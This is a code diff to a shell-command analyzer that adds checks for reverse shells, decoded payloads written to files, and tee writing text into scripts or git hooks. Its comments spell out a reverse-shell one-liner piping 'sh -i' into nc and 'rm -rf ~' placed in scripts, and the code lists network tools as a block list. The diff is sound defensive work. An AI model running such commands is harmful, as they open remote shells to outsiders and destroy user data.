@@ -274,7 +274,38 @@ Taint Analyzer::visitPipeline(const Node &node, AnalysisContext &context)
         if (node.children.size() == 1)
             context.cwd = stage.cwd;
     }
+    judgeReverseShell(node, context);
     return all;
+}
+
+void Analyzer::judgeReverseShell(const Node &pipeline, const AnalysisContext &context)
+{
+    // cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f: a shell reading its commands from stdin whose output
+    // goes to a network program is a reverse shell.
+    auto program = [&](const Node &stage) {
+        if (stage.kind != NodeKind::Simple || stage.words.empty())
+            return QString();
+        const WordValue value = resolveWord(stage.words.front(), ResolveContext{m_home, context.cwd, &m_variables});
+        return value.isStatic ? baseName(value.value) : QString();
+    };
+    bool bareShell = false;
+    for (const auto &child : pipeline.children) {
+        const QString name = program(*child);
+        if (bareShell && (name == u"nc" || name == u"ncat" || name == u"netcat" || name == u"socat" || name == u"telnet"
+                          || name == u"openssl")) {
+            add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, pipeline.span, QStringLiteral("reverse shell"), context);
+            return;
+        }
+        if (m_rules.programClass(name) != ProgramClass::Shell)
+            continue;
+        bool scriptless = true;
+        for (size_t k = 1; k < child->words.size(); ++k) {
+            const WordValue word = resolveWord(child->words[k], ResolveContext{m_home, context.cwd, &m_variables});
+            if (!word.value.startsWith(u'-') || word.value.contains(u'c'))
+                scriptless = false;
+        }
+        bareShell = bareShell || scriptless;
+    }
 }
 
 Taint Analyzer::visitFunction(const Node &node, AnalysisContext &context)
@@ -733,8 +764,10 @@ Taint Analyzer::visitSimple(const Node &node, AnalysisContext &context)
     // Moved: judgeCommand rewrites the first word, and a shared list would be deep-copied for that.
     const Taint produced = judgeCommand(std::move(args), commandContext, node.span);
     total |= produced;
-    if (produced.network) {
-        // curl URL > build/i.sh: the file now holds downloaded data.
+    QString knownText;
+    if (produced.network || (produced.decoded && !staticOutputText(node, context, &knownText))) {
+        // curl URL > build/i.sh: the file now holds downloaded data (base64 -d > f: decoded data, run as code later
+        // is fetch_and_execute as well).
         for (const Redirect &redirect : node.redirects) {
             const QString &op = redirect.op;
             if ((op != u">" && op != u">>" && op != u">|" && op != u"&>" && op != u"&>>") || (redirect.fd != -1 && redirect.fd != 1))
@@ -1569,6 +1602,48 @@ bool Analyzer::processSubstitutionText(const Arg &arg, const AnalysisContext &co
     return node && staticOutputText(*node, context, text);
 }
 
+bool Analyzer::teeStaticInput(const Node &node, const AnalysisContext &context)
+{
+    // tee build/h.sh <<< 'rm -rf ~' (or echo ... | tee f): tee writes the known text to each file operand.
+    if (node.kind != NodeKind::Simple || node.words.empty())
+        return false;
+    const WordValue program = resolveWord(node.words.front(), ResolveContext{m_home, context.cwd, &m_variables});
+    if (!program.isStatic || program.value != u"tee")
+        return false;
+    QString text;
+    bool known = false;
+    for (const Redirect &redirect : node.redirects) {
+        if ((redirect.op == u"<<" || redirect.op == u"<<-") && redirect.hereDoc
+            && (redirect.hereDoc->quoted || (!redirect.hereDoc->body.contains(u'$') && !redirect.hereDoc->body.contains(u'`')))) {
+            text = redirect.hereDoc->body;
+            known = true;
+        } else if (redirect.op == u"<<<") {
+            const WordValue value = resolveWord(redirect.target, ResolveContext{m_home, context.cwd, &m_variables});
+            known = value.isStatic;
+            text = value.value;
+        }
+    }
+    if (!known && context.input.kind == StdinKind::Pipe && context.input.textStatic && !context.input.text.isEmpty()) {
+        text = context.input.text;
+        known = true;
+    }
+    if (!known)
+        return true;
+    for (size_t i = 1; i < node.words.size(); ++i) {
+        const WordValue file = resolveWord(node.words[i], ResolveContext{m_home, context.cwd, &m_variables});
+        if (!file.isStatic || file.glob || file.value.startsWith(u'-'))
+            continue;
+        const QString target = m_guard.absolute(file.value, context.cwd);
+        m_writtenScripts.insert(target, text);
+        if (target.contains(QLatin1String("/.git/hooks/"))) {
+            AnalysisContext later = context;
+            later.input = StdinSource{};
+            judgeShellText(text, node.span, later, QStringLiteral("git hook"));
+        }
+    }
+    return true;
+}
+
 void Analyzer::recordWrittenScript(const Node &node, const AnalysisContext &context)
 {
     // echo 'rm -rf ~' > build/x.sh: remember the text, for `sh build/x.sh` / `. build/x.sh` / `./build/x.sh`
@@ -1585,6 +1660,8 @@ void Analyzer::recordWrittenScript(const Node &node, const AnalysisContext &cont
         }
     }
     QString text;
+    if (teeStaticInput(node, context))
+        return;
     if (target.isEmpty() || !staticOutputText(node, context, &text))
         return;
     if (append && m_writtenScripts.contains(target))
